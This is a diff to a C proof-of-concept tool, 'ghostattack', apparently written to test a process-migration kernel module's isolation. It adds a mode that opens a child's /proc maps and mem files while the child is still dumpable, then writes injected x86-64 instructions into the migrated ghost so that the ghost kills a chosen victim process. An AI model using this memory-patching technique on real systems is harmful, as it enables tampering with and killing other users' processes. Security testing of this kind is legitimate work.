@@ -11,6 +11,9 @@
  *                                  call, and the child forks twice on the
  *                                  node: a ghost registered for VICTIM,
  *                                  then, as that one exists, VICTIM killed
+ *   ghostattack premem NODE VICTIM the same, through /proc/CHILD/{maps,mem}
+ *                                  opened before the child moved, while it
+ *                                  was still dumpable
  *   ghostattack ptrace NODE        the same child; we PTRACE_SEIZE its ghost
  *   ghostattack getfd NODE         the same child; we take its ghost's
  *                                  resume descriptor (pidfd_getfd) and a
@@ -63,16 +66,22 @@ static const char *ename(int e)
 	return buf;
 }
 
-/* The child: moves, makes a call, says "ready", forks twice on USR1. */
-static void child(int node, int out)
+/*
+ * The child: waits for a byte on @go (if >= 0), moves, makes a call, says
+ * "ready", forks twice on USR1.
+ */
+static void child(int node, int out, int go)
 {
 	sigset_t usr1;
 	int i, sig;
+	char b;
 
 	dup2(out, 1);
 	sigemptyset(&usr1);
 	sigaddset(&usr1, SIGUSR1);
 	sigprocmask(SIG_BLOCK, &usr1, NULL);
+	if (go >= 0 && read(go, &b, 1) != 1)
+		exit(98);
 	if (bproc_move(node, BPROC_DUMP_ALL)) {
 		printf("move failed: %s\n", ename(errno));
 		exit(99);
@@ -97,52 +106,45 @@ static void child(int node, int out)
 	exit(0);
 }
 
-/* Rewrite the ghost's call snippet: "mov edx,VICTIM; ioctl(fd, CALLRET)". */
-static void attack_mem(pid_t g, int victim)
+/*
+ * Rewrite the ghost's call snippet through @maps and @mem, opened by the
+ * caller: "mov edx,VICTIM; ioctl(fd, CALLRET)".  The snippet begins
+ * "syscall; mov rdx,rax"; the resume descriptor is then either an
+ * immediate ("mov edi,FD", as the module of 9fb35a4 wrote it) or in r12.
+ */
+static void attack_mem_fds(FILE *maps, int mem, int victim)
 {
+	static const unsigned char head[] = { 0x0f, 0x05, 0x48, 0x89, 0xc2 };
 	unsigned long lo, hi;
-	char path[64], line[256], perm[8];
+	char line[256], perm[8];
 	unsigned char b[32], *p = b;
-	int mem, found = 0;
+	int found = 0;
 	unsigned int v;
-	FILE *maps;
 
-	snprintf(path, sizeof(path), "/proc/%d/maps", g);
-	maps = fopen(path, "r");
-	if (!maps) {
-		printf("maps: %s\n", ename(errno));
-		return;
-	}
-	snprintf(path, sizeof(path), "/proc/%d/mem", g);
-	mem = open(path, O_RDWR);
-	if (mem < 0) {
-		printf("mem: %s\n", ename(errno));
-		fclose(maps);
-		return;
-	}
 	while (!found && fgets(line, sizeof(line), maps)) {
 		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 ||
 		    hi - lo != 4096 || strcmp(perm, "r-xp"))
 			continue;
 		if (pread(mem, b, sizeof(b), lo + 16) != sizeof(b))
 			continue;
-		if (b[0] == 0x0f && b[1] == 0x05 && b[2] == 0x48 &&
-		    b[5] == 0xbf)
+		if (!memcmp(b, head, sizeof(head)))
 			found = 1;
 	}
-	fclose(maps);
 	if (!found) {
 		printf("mem: no call snippet\n");
-		close(mem);
 		return;
 	}
-	memcpy(&v, b + 6, 4); /* the resume descriptor */
 	*p++ = 0xba; /* mov edx,victim */
 	memcpy(p, &victim, 4);
 	p += 4;
-	*p++ = 0xbf; /* mov edi,fd */
-	memcpy(p, &v, 4);
-	p += 4;
+	if (b[5] == 0xbf) {
+		memcpy(p, b + 5, 5); /* mov edi,FD */
+		p += 5;
+	} else {
+		*p++ = 0x44; /* mov edi,r12d */
+		*p++ = 0x89;
+		*p++ = 0xe7;
+	}
 	*p++ = 0xbe; /* mov esi,CALLRET */
 	v = BPROC_IOC_GHOST_CALLRET;
 	memcpy(p, &v, 4);
@@ -159,6 +161,38 @@ static void attack_mem(pid_t g, int victim)
 		printf("mem write: %s\n", ename(errno));
 	else
 		printf("mem: patched\n");
+}
+
+/* /proc/@g/maps and /proc/@g/mem, or a line that says why not. */
+static int open_mem(pid_t g, FILE **maps, int *mem)
+{
+	char path[64];
+
+	snprintf(path, sizeof(path), "/proc/%d/maps", g);
+	*maps = fopen(path, "r");
+	if (!*maps) {
+		printf("maps: %s\n", ename(errno));
+		return -1;
+	}
+	snprintf(path, sizeof(path), "/proc/%d/mem", g);
+	*mem = open(path, O_RDWR);
+	if (*mem < 0) {
+		printf("mem: %s\n", ename(errno));
+		fclose(*maps);
+		return -1;
+	}
+	return 0;
+}
+
+static void attack_mem(pid_t g, int victim)
+{
+	FILE *maps;
+	int mem;
+
+	if (open_mem(g, &maps, &mem))
+		return;
+	attack_mem_fds(maps, mem, victim);
+	fclose(maps);
 	close(mem);
 }
 
@@ -217,26 +251,37 @@ static void attack_getfd(pid_t g)
 
 int main(int argc, char **argv)
 {
+	int premem = argc > 1 && !strcmp(argv[1], "premem");
+	int node, io[2], go[2] = { -1, -1 }, st, mem = -1;
+	FILE *in, *maps = NULL;
 	char line[128];
-	int node, io[2], st;
-	FILE *in;
 	pid_t g;
 
-	if (argc < 3 || (!strcmp(argv[1], "mem") && argc != 4)) {
+	if (argc < 3 || ((premem || !strcmp(argv[1], "mem")) && argc != 4)) {
 		fprintf(stderr,
-			"usage: ghostattack mem|ptrace|getfd NODE [VICTIM]\n");
+			"usage: ghostattack mem|premem|ptrace|getfd NODE [VICTIM]\n");
 		return 2;
 	}
 	node = atoi(argv[2]);
 	setvbuf(stdout, NULL, _IOLBF, 0);
-	if (pipe(io))
+	if (pipe(io) || (premem && pipe(go)))
 		return 1;
 	g = fork();
 	if (g == 0) {
 		close(io[0]);
-		child(node, io[1]);
+		close(go[1]);
+		child(node, io[1], go[0]);
 	}
 	close(io[1]);
+	close(go[0]);
+	if (premem) {
+		/* While the child is here, unmoved and dumpable. */
+		if (open_mem(g, &maps, &mem) == 0)
+			printf("premem: opened\n");
+		if (write(go[1], "g", 1) != 1)
+			return 1;
+		close(go[1]);
+	}
 	in = fdopen(io[0], "r");
 	if (!fgets(line, sizeof(line), in) || strcmp(line, "ready\n")) {
 		printf("child: %s", line);
@@ -245,6 +290,12 @@ int main(int argc, char **argv)
 	}
 	if (!strcmp(argv[1], "mem")) {
 		attack_mem(g, atoi(argv[3]));
+	} else if (premem) {
+		if (maps) {
+			attack_mem_fds(maps, mem, atoi(argv[3]));
+			fclose(maps);
+			close(mem);
+		}
 	} else if (!strcmp(argv[1], "ptrace")) {
 		if (ptrace(PTRACE_SEIZE, g, 0, 0))
 			printf("ptrace: %s\n", ename(errno));
